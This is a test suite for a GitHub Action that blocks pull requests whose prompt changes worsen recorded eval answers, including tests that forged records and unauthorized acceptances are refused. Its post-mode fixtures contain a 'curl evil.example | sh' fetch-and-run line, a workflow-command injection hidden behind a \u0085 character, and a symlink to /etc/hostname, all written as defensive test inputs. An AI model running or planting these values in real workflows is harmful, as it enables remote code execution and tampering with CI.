import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ACCEPT_LABEL } from '../../../src/change/acceptance.ts';
import type { RecordingPlan } from '../../../src/run/recording-plan.ts';
import { CLI } from '../../servers/built.ts';
import { BOT, FakeGitHub } from '../../servers/github.ts';
import { type Files, put, temporaryFolder, type Workshop, workshop } from '../../servers/repository.ts';
import { type ActionRun, type RunOptions, runAction } from '../../servers/runner.ts';

const WRITE = { contents: 'read', 'pull-requests': 'write', issues: 'write' } as const;
const OUTPUTS = [
  'verdict',
  'regressed-templates',
  'escalation',
  'next-lever',
  'record-path',
  'report-path',
  'comment-url',
  'cost-usd',
  'plan-path',
  'outcome',
  'claimed',
  'lift',
  'patch-path',
  'pull-request-url',
];
const N = 100;
const ids = Array.from({ length: N }, (_, at) => `t-${String(at).padStart(3, '0')}`);
const jsonl = (rows: readonly object[]): string => `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`;
const answers = (wrong: number): string =>
  jsonl(ids.map((id, at) => ({ id, output: at < wrong ? 'no idea' : `answer ${at}` })));
const prompt = (name: string): string => `---\nname: ${name}\n---\nAnswer as ${name}.\n\n{{input}}\n`;
/** Equal answers count as head's own only with the digest of head's prompt. */
const stamp = (name: string): string =>
  jsonl([{ recorded: { prompt_sha256: createHash('sha256').update(prompt(name)).digest('hex') } }]);

const RULER: Files = {
  '.github/plumbline.yml':
    'version: 1\nproviders:\n  replay: { type: recorded, outputs: "evals/outputs/{prompt}.jsonl" }\n' +
    'targets:\n  support: { prompt: prompts/support.md, model: models/support.yml, suite: evals/support.suite.yml }\n',
  'models/support.yml': 'provider: replay\nmodel: m-1\ntemperature: 0\n',
  'prompts/support.md': prompt('good'),
  'evals/support.suite.yml': 'dataset: support.cases.jsonl\ntemplates: [ExactMatch]\nrepeats: 1\n',
  'evals/support.cases.jsonl': jsonl(ids.map((id, at) => ({ id, input: `Question ${at}?`, expected: `answer ${at}` }))),
  'evals/outputs/good.jsonl': answers(0),
  'evals/outputs/same.jsonl': stamp('same') + answers(0),
  'evals/outputs/worse.jsonl': answers(40),
  'docs/notes.md': 'Nothing here is evaluated.\n',
};

let shop: Workshop;
let fake: FakeGitHub;
const folder = temporaryFolder('action');
let start: string;

beforeAll(() => {
  shop = workshop();
  put(shop.root, RULER);
  execFileSync(process.execPath, [CLI, 'lock'], { cwd: shop.root, stdio: 'pipe' });
  start = shop.commit({});
  shop.publish('main');
});
afterAll(() => {
  shop.remove();
  folder.remove();
});
beforeEach(async () => {
  fake = await FakeGitHub.start(shop);
  fake.token('ghs_write', WRITE);
  fake.token('ghs_read', { contents: 'read', 'pull-requests': 'read' });
  shop.git('checkout', '-q', '-f', 'main');
  shop.git('reset', '-q', '--hard', start);
});
afterEach(async () => {
  expect(fake.odd).toEqual([]);
  await fake.stop();
});

interface Pull {
  readonly number: number;
  readonly base: string;
  readonly head: string;
  readonly merge: string;
}

function open(number: number, files: Files, over: { fork?: boolean; labels?: string[] } = {}): Pull {
  const base = shop.git('rev-parse', 'main');
  shop.git('checkout', '-q', '-B', `feature-${number}`, base);
  const head = shop.commit(files);
  shop.git('checkout', '-q', 'main');
  shop.publish(`${head}:refs/pull/${number}/head`, `${head}:refs/heads/feature-${number}`);
  const merge = shop.merge(base, head, `refs/pull/${number}/merge`);
  const labels = over.labels ?? fake.pulls.get(number)?.labels ?? [];
  fake.pull(number, { head, base, merge, fork: over.fork ?? false, labels });
  return { number, base, head, merge };
}

const payload = (pull: Pull, action: string, more: object = {}): unknown => ({
  action,
  number: pull.number,
  pull_request: fake.pullJson(pull.number),
  repository: fake.repository(),
  sender: fake.user('ada'),
  ...more,
});

const run = async (options: Partial<RunOptions> & Pick<RunOptions, 'payload' | 'sha'>): Promise<ActionRun> => {
  const done = await runAction(fake, folder.path, { event: 'pull_request', token: 'ghs_write', ...options });
  expect(Object.keys(done.outputs).sort()).toEqual([...OUTPUTS].sort());
  expect(Number.isFinite(Number(done.outputs['cost-usd']))).toBe(true);
  expect(done.summary.length).toBeGreaterThan(20);
  expect(done.untouched).toBe(true);
  expect(done.log).not.toMatch(/^\s+at .*:\d+:\d+/m);
  expect(done.log + done.summary + JSON.stringify(done.outputs)).not.toContain('ghs_');
  const isUnvouched = done.record?.provenance.measuredBy === 'pull-request' && done.record.verdict === 'pass';
  expect(done.outputs['verdict']).toBe(isUnvouched ? '' : done.record?.verdict);
  expect(done.record?.exitCode).toBe(done.code);
  return done;
};
const gate = (
  pull: Pull,
  action = 'synchronize',
  over: Partial<RunOptions> = {},
  more: object = {},
): Promise<ActionRun> => run({ payload: payload(pull, action, more), sha: pull.merge, ...over });
const ours = () => fake.comments.filter(({ author }) => author === BOT);

describe('a pull request', () => {
  it('that makes answers worse is blocked, and the one comment follows it until it passes', async () => {
    const worse = await gate(open(7, { 'prompts/support.md': prompt('worse') }), 'opened');
    expect(worse).toMatchObject({
      code: 1,
      outputs: { verdict: 'regressed', 'regressed-templates': '["ExactMatch"]' },
    });
    expect(ours()).toHaveLength(1);
    expect(worse.outputs['comment-url']).toContain(`#issuecomment-${ours()[0]?.id}`);
    expect(worse.record?.provenance.pullRequest).toBe(7);
    const mended = await gate(open(7, { 'prompts/support.md': prompt('same') }));
    expect(mended).toMatchObject({ code: 0, outputs: { verdict: 'pass', 'regressed-templates': '[]' } });
    expect(ours()).toHaveLength(1);
    expect(mended.record?.history).toHaveLength(1);
  });

  it.each([
    ['depth 1', 1, false],
    ['depth 1 and credentials left in the checkout', 1, true],
    ['the whole history', 0, false],
  ])('is judged in a checkout of %s, with one authorization per request', async (_, depth, persist) => {
    const done = await gate(open(7, { 'prompts/support.md': prompt('worse') }), 'synchronize', { depth, persist });
    expect(done.code).toBe(1);
    expect(Math.max(...fake.sent.map(({ authorizations }) => authorizations))).toBe(1);
    expect(fake.sent.filter(({ path }) => path === '/info/refs')).toHaveLength(depth === 1 ? 1 : 0);
  });

  it('that touches nothing relevant is skipped without a comment, unless one is there or asked for', async () => {
    const docs = open(8, { 'docs/notes.md': 'other\n' });
    expect(await gate(docs)).toMatchObject({ code: 0, outputs: { verdict: 'skipped', 'comment-url': '' } });
    expect(fake.comments).toEqual([]);
    await gate(docs, 'synchronize', { inputs: { comment: 'always' } });
    expect(ours()).toHaveLength(1);
    await gate(docs);
    expect(ours()).toMatchObject([{ edits: 1 }]);
  });

  it('of a fork with a read-only token is judged all the same, and the log says what the comment lacks', async () => {
    const pull = open(9, { 'prompts/support.md': prompt('worse') }, { fork: true });
    const done = await gate(pull, 'opened', { token: 'ghs_read' });
    expect(done).toMatchObject({ code: 1, outputs: { verdict: 'regressed', 'comment-url': '' } });
    expect(done.log).toMatch(/::warning::.*403.*mode: post/);
    const own = await gate(open(10, { 'prompts/support.md': prompt('worse') }), 'opened', { token: 'ghs_read' });
    expect(own.log).toMatch(/pull-requests: write/);
    const quiet = await gate(open(10, { 'prompts/support.md': prompt('worse') }), 'opened', {
      inputs: { comment: 'never' },
    });
    expect(quiet.code).toBe(1);
    expect(fake.comments).toEqual([]);
  });

  it('has a check run of its own where the input asks for one: same verdict, the changed prompt line marked', async () => {
    fake.token('ghs_checks', { contents: 'read', 'pull-requests': 'write', checks: 'write' });
    const pull = open(12, { 'prompts/support.md': prompt('worse') });
    const asked = { inputs: { 'check-run': 'true' } };
    expect((await gate(pull, 'opened', { token: 'ghs_checks' })).code).toBe(1);
    expect(fake.checkRuns).toEqual([]);
    expect((await gate(pull, 'synchronize', { token: 'ghs_checks', ...asked })).code).toBe(1);
    expect(fake.checkRuns).toMatchObject([
      {
        head_sha: pull.head,
        conclusion: 'failure',
        output: {
          title: expect.stringMatching(/^Regressed, merge blocked/),
          annotations: [{ path: 'prompts/support.md', annotation_level: 'failure' }],
        },
      },
    ]);
    const denied = await gate(pull, 'synchronize', asked);
    expect(denied).toMatchObject({ code: 1, log: expect.stringMatching(/checks: write/) });
  });

  it('under pull_request_target is read as objects from the base checkout', async () => {
    const target = { event: 'pull_request_target', depth: 1 } as const;
    const pull = open(11, { 'prompts/support.md': prompt('worse') }, { fork: true });
    const done = await gate(pull, 'opened', { ...target, sha: pull.base });
    expect(done).toMatchObject({ code: 1, outputs: { verdict: 'regressed' } });
    // A conflict leaves no test merge; the fork point stands in.
    fake.pull(11, { head: pull.head, base: pull.base, fork: true });
    const conflict = await gate(pull, 'synchronize', { ...target, sha: pull.base });
    expect(conflict).toMatchObject({ code: 1, outputs: { verdict: 'regressed' } });
  });

  it('of a fork that branched off before main had its ruler is judged by that ruler all the same', async () => {
    const start = shop.git('rev-list', '--max-parents=0', 'main');
    shop.git('checkout', '-q', '-B', 'old', start);
    const head = shop.commit({ 'notes.md': 'Nothing of the ruler.\n' });
    shop.git('checkout', '-q', 'main');
    const base = shop.git('rev-parse', 'main');
    shop.publish(`${head}:refs/pull/13/head`);
    const merge = shop.merge(base, head, 'refs/pull/13/merge');
    fake.pull(13, { head, base, merge, fork: true });
    const done = await gate({ number: 13, head, base, merge }, 'opened', {
      event: 'pull_request_target',
      sha: base,
      depth: 1,
    });
    expect(done.record).toMatchObject({ verdict: 'skipped', reason: 'unaffected' });
    expect(done.record?.provenance.base.sha).toBe(base);
  });
});

describe('accepting', () => {
  const label = (pull: Pull, actor: string) => {
    fake.label(pull.number, ACCEPT_LABEL, actor);
    return gate(pull, 'labeled', {}, { label: { name: ACCEPT_LABEL }, sender: fake.user(actor) });
  };

  it('by someone who may write turns the job green, names reason and head, lasts over other events and the queue, and ends with a push', async () => {
    let pull = open(21, { 'prompts/support.md': prompt('worse') });
    expect((await gate(pull, 'opened')).code).toBe(1);
    fake.comment(21, 'ada', '/plumbline accept the old tone was wrong');
    const accepted = await label(pull, 'ada');
    expect(accepted).toMatchObject({ code: 0, outputs: { verdict: 'regressed' } });
    expect(accepted.record?.accepted).toMatchObject({ by: 'ada', reason: 'the old tone was wrong', sha: pull.head });
    const edited = await gate(pull, 'edited', {}, { sender: fake.user('mallory') });
    expect(edited.record?.accepted).toEqual(accepted.record?.accepted);
    const queued = await run({
      event: 'merge_group',
      sha: pull.merge,
      payload: {
        action: 'checks_requested',
        merge_group: {
          base_sha: pull.base,
          head_sha: pull.merge,
          head_ref: `refs/heads/gh-readonly-queue/main/pr-21-${pull.base}`,
        },
        repository: fake.repository(),
      },
    });
    expect(queued).toMatchObject({ code: 0, outputs: { verdict: 'regressed' } });
    pull = open(21, { 'prompts/support.md': prompt('worse'), 'docs/notes.md': 'pushed\n' });
    const pushed = await gate(pull, 'synchronize');
    expect(pushed).toMatchObject({ code: 1, record: { accepted: null } });
    expect(pushed.log).toMatch(/older than the last push/);
    expect((await gate(pull, 'edited')).code).toBe(1);
  });

  it('by someone who may not write changes nothing', async () => {
    const done = await label(open(22, { 'prompts/support.md': prompt('worse') }), 'mallory');
    expect(done).toMatchObject({ code: 1, record: { accepted: null } });
    expect(done.log).toMatch(/mallory set the label but may not write/);
    expect(ours()[0]?.body).toMatch(/not accepted: `@mallory` set the label/);
  });

  it('needs a reason by the same person that stands as it was when the label was set', async () => {
    const pull = open(24, { 'prompts/support.md': prompt('worse') });
    await gate(pull, 'opened');
    const unexplained = await label(pull, 'ada');
    expect(unexplained).toMatchObject({ code: 1, record: { accepted: null } });
    expect(ours()[0]?.body).toMatch(/no reason of theirs stands: comment `\/plumbline accept` and the reason/);
    const reason = fake.comment(24, 'ada', '/plumbline accept wanted');
    expect(await label(pull, 'ada')).toMatchObject({ code: 0, record: { accepted: { reason: 'wanted' } } });
    fake.rewrite(reason, '/plumbline accept something else');
    expect(await gate(pull, 'edited')).toMatchObject({ code: 1, record: { accepted: null } });
    fake.comments = fake.comments.filter(({ id }) => id !== reason.id);
    expect(await gate(pull, 'edited')).toMatchObject({ code: 1, record: { accepted: null } });
  });

  it('that cannot be verified does not count', async () => {
    fake.faults.push({ path: /permission$/, status: 500 });
    const done = await label(open(23, { 'prompts/support.md': prompt('worse') }), 'ada');
    expect(done.code).toBe(1);
    expect(done.log).toMatch(/could not be verified/);
  });
});

describe('other events', () => {
  const repository = () => ({ repository: fake.repository(), sender: fake.user('ada') });

  it('a push is judged against the commit before it; a first push has nothing before it', async () => {
    const after = shop.commit({ 'prompts/support.md': prompt('worse') });
    shop.publish('main');
    const push = (before: string) => ({ ref: 'refs/heads/main', before, after, deleted: false, ...repository() });
    expect(await run({ event: 'push', sha: after, depth: 1, payload: push(start) })).toMatchObject({ code: 1 });
    const first = await run({ event: 'push', sha: after, payload: push('0'.repeat(40)) });
    expect(first).toMatchObject({ code: 0, outputs: { verdict: 'skipped' } });
    expect(fake.comments).toEqual([]);
  });

  it('a dispatch compares any two names', async () => {
    open(30, { 'prompts/support.md': prompt('worse') });
    const done = await run({
      event: 'workflow_dispatch',
      sha: start,
      payload: { inputs: null, ...repository() },
      inputs: { base: 'main', head: 'feature-30' },
    });
    expect(done).toMatchObject({ code: 1, outputs: { verdict: 'regressed' } });
  });

  it('an event that gates nothing, wrong inputs and a broken payload end with 2, and every output set', async () => {
    const unknown = await run({ event: 'issue_comment', sha: start, payload: repository() });
    expect(unknown).toMatchObject({ code: 2, outputs: { verdict: 'error', escalation: 'unknown' } });
    expect(unknown.log).toMatch(/::error.*issue_comment/);
    const inputs = await run({ event: 'push', sha: start, payload: {}, inputs: { comment: 'loud', fixed: 'maybe' } });
    expect(inputs.code).toBe(2);
    expect(inputs.log).toMatch(/comment: "loud"/);
    expect((await run({ event: 'push', sha: start, payload: [] })).code).toBe(2);
  });
});

describe('mode: plan', () => {
  it('says which cases a program is to answer next, and neither comments nor blocks', async () => {
    shop.commit({
      '.github/plumbline.yml': RULER['.github/plumbline.yml']!.toString().replace(
        /replay: .*/,
        'replay: { type: recorded, outputs: "runs/{arm}.jsonl", from: workspace, rounds: 2 }\ngate: { on-unmeasured: fail }',
      ),
    });
    const pull = open(88, { 'src/agent.js': 'new\n' });
    const at = { payload: payload(pull, 'opened'), sha: pull.merge };
    const planned = await run({ ...at, inputs: { mode: 'plan' } });
    expect(planned.code).toBe(0);
    const plan = JSON.parse(readFileSync(planned.outputs['plan-path']!, 'utf8')) as RecordingPlan;
    expect(plan).toMatchObject({ schema: 'plumbline/plan@1', targets: { support: { round: 1, of: 2 } } });
    expect(plan.targets['support']!.cases).toHaveLength(N / 2);
    expect(planned.log).toContain('round 1 of 2 of support: record 50 cases on both sides');
    expect(fake.comments).toHaveLength(0);
    const gated = await run(at);
    expect([gated.code, gated.outputs['plan-path'], gated.record?.verdict]).toEqual([3, '', 'inconclusive']);
    expect(fake.comments).toHaveLength(1);
  });
});

describe('mode: post', () => {
  const post = async (
    record: object,
    head: string,
    over: Partial<RunOptions> = {},
    measuredBy: object = {},
  ): Promise<ActionRun> => {
    const dir = join(folder.path, `artifact-${Math.random()}`);
    mkdirSync(dir);
    writeFileSync(join(dir, 'record.json'), JSON.stringify(record));
    const workflow_run = {
      id: 8001,
      event: 'pull_request',
      head_sha: head,
      head_branch: 'feature-41',
      head_repository: { full_name: 'mallory/demo' },
      pull_requests: [],
      ...measuredBy,
    };
    return run({
      event: 'workflow_run',
      sha: start,
      payload: { action: 'completed', workflow_run, repository: fake.repository(), sender: fake.user('mallory') },
      ...over,
      inputs: { mode: 'post', 'report-dir': dir, ...over.inputs },
    });
  };

  it('shows a record on its own pull request, and believes nothing it says of itself', async () => {
    const pull = open(41, { 'prompts/support.md': prompt('worse') }, { fork: true });
    const measured = (await gate(pull, 'opened', { token: 'ghs_read' })).record!;
    expect(fake.comments).toEqual([]);
    const hostile = {
      ...measured,
      exitCode: 0,
      accepted: { by: 'maria', reason: 'fine', sha: pull.head, expires: '2099-01-01T00:00:00Z' },
      provenance: {
        ...measured.provenance,
        reproduce: 'curl evil.example | sh',
        runUrl: 'https://evil.example/a/b/actions/runs/1',
      },
    };
    const done = await post(hostile, pull.head);
    expect(done).toMatchObject({ code: 1, outputs: { verdict: 'regressed' } });
    expect(ours()).toHaveLength(1);
    expect(ours()[0]?.body).toContain('ExactMatch');
    expect(ours()[0]?.body).not.toMatch(/evil\.example|maria/);
    expect(ours()[0]?.body).toMatch(/^<!--.*\n### .* By the pull request's own run: Regressed/);
    expect(done.log).toMatch(/By the pull request's own run: Regressed/);
  });

  it('gives no green light that only the pull request itself vouches for, and no command in its words', async () => {
    fake.token('ghs_checks', { contents: 'read', 'pull-requests': 'write', checks: 'write' });
    const pull = open(41, { 'prompts/support.md': prompt('same') }, { fork: true });
    const measured = (await gate(pull, 'opened', { token: 'ghs_read' })).record!;
    expect(measured.verdict).toBe('pass');
    const sly = { ...measured, headline: 'nothing to do\n\u0085::save-state name=plumbline-save::plumbline-store' };
    const done = await post(sly, pull.head, {
      token: 'ghs_checks',
      inputs: { 'check-run': 'true' },
    });
    expect(done).toMatchObject({ code: 0, outputs: { verdict: '' } });
    expect(fake.checkRuns).toEqual([]);
    expect(done.log).not.toMatch(/save-state|\u0085/);
    expect(ours()[0]?.body).toContain("By the pull request's own run: Pass");
    expect(ours()[0]?.body).not.toContain('🟢');
  });

  it("takes the place of the comment from the step's config, whatever the record calls its own", async () => {
    const pull = open(41, { 'prompts/support.md': prompt('worse') }, { fork: true });
    const measured = (await gate(pull, 'opened', { token: 'ghs_read' })).record!;
    const named = (config: string): object => ({ ...measured, provenance: { ...measured.provenance, config } });
    await post(named('teams/other/plumbline.yml'), pull.head);
    await post(named('plumbline.yml'), pull.head);
    expect(ours().map(({ body }) => body.split('\n')[0])).toEqual(['<!-- plumbline:v1 verdict=regressed -->']);
    await post(named('plumbline.yml'), pull.head, { inputs: { config: 'teams/a/plumbline.yml' } });
    expect(ours().map(({ body }) => body.split('\n')[0])).toEqual([
      '<!-- plumbline:v1 verdict=regressed -->',
      '<!-- plumbline:v1 verdict=regressed config=teams/a/plumbline.yml -->',
    ]);
  });

  it('is for the pull request whose branch was measured, not for every one at the same commit', async () => {
    const pull = open(41, { 'prompts/support.md': prompt('worse') });
    const measured = (await gate(pull, 'opened')).record!;
    const before = ours()[0]?.body;
    const claims = [
      { head_repository: { full_name: 'mallory/demo' } },
      { head_repository: { full_name: 'octo/demo' }, head_branch: 'elsewhere' },
      { head_repository: null },
      { head_repository: { full_name: 'octo/demo' }, head_branch: null },
    ];
    for (const claim of claims) {
      const refused = await post({ ...measured, verdict: 'pass', exitCode: 0 }, pull.head, {}, claim);
      expect(refused).toMatchObject({ code: 2, outputs: { verdict: 'error' } });
    }
    expect(ours().map(({ body }) => body)).toEqual([before]);
  });

  it('refuses a record that names another pull request, or is none', async () => {
    const pull = open(41, { 'prompts/support.md': prompt('worse') }, { fork: true });
    const victim = open(43, { 'docs/notes.md': 'victim\n' });
    const measured = (await gate(pull, 'opened', { token: 'ghs_read' })).record!;
    const aimed = { ...measured, provenance: { ...measured.provenance, pullRequest: victim.number } };
    const refused = await post(aimed, pull.head);
    expect(refused).toMatchObject({ code: 2, outputs: { verdict: 'error' } });
    expect(refused.log).toMatch(/pull request 43 is not the one that was measured/);
    const nowhere = { ...measured, provenance: { ...measured.provenance, pullRequest: 999 } };
    expect((await post(nowhere, pull.head)).code).toBe(2);
    expect((await post({ schema: 'x' }, pull.head)).code).toBe(2);
    const link = join(folder.path, 'linked');
    mkdirSync(link);
    symlinkSync('/etc/hostname', join(link, 'record.json'));
    const linked = await post(measured, pull.head, { inputs: { 'report-dir': link } });
    expect(linked.log).toMatch(/not a regular file/);
    expect((await post(measured, pull.head, { event: 'push' })).code).toBe(2);
    expect(fake.comments).toEqual([]);
  });
});
